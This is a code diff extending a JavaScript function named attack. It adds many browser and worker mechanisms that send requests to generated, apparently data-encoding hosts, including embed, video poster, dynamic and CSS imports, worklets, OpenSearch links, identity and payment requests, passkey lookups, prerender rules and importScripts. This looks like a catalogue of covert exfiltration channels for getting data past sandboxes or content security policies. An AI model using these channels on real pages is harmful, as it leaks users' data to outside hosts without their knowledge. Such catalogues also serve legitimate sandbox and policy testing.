@@ -64,10 +64,28 @@ function attack(place, hex, port, relayAlone) {
       element('iframe', { name: 'sink' });
       element('form', { action: `https://${host('form')}/`, method: 'post', target: 'sink' }).submit();
     });
+    way('embed', () => { element('embed', { src: `https://${host('embed')}/` }); });
+    way('poster', () => { element('video', { poster: `https://${host('poster')}/` }); });
+    way('import', () => import(`https://${host('import')}/x.js`));
+    way('css-import', () => { element('style', { textContent: `@import url(https://${host('css-import')}/);` }); });
+    way('worklet', () => new AudioContext().audioWorklet.addModule(`https://${host('worklet')}/x.js`));
+    way('paint', () => CSS.paintWorklet.addModule(`https://${host('paint')}/x.js`));
+    way('search', () => { element('link', { rel: 'search', type: 'application/opensearchdescription+xml', href: `https://${host('search')}/x` }); });
+    way('identity', () => navigator.credentials.get({ identity: { providers: [{ configURL: `https://${host('identity')}/x.json`, clientId: '1' }] } }));
+    way('payment', () => {
+      const total = { label: 'x', amount: { currency: 'USD', value: '1' } };
+      return new PaymentRequest([{ supportedMethods: `https://${host('payment')}/pay` }], { total }).canMakePayment();
+    });
+    way('passkey', () => navigator.credentials.get({ publicKey: { rpId: host('passkey'), challenge: new Uint8Array(16) } }));
+    way('prerender', () => {
+      const rules = { prerender: [{ source: 'list', urls: [`https://${host('prerender')}/`] }] };
+      element('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
+    });
     way('rules', () => {
       const rules = { prefetch: [{ source: 'list', urls: [`https://${host('rules')}/`] }] };
       element('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
     });
   }
+  if (world.importScripts) way('import-scripts', () => { importScripts(`https://${host('import-scripts')}/x.js`); });
   return tried;
 }
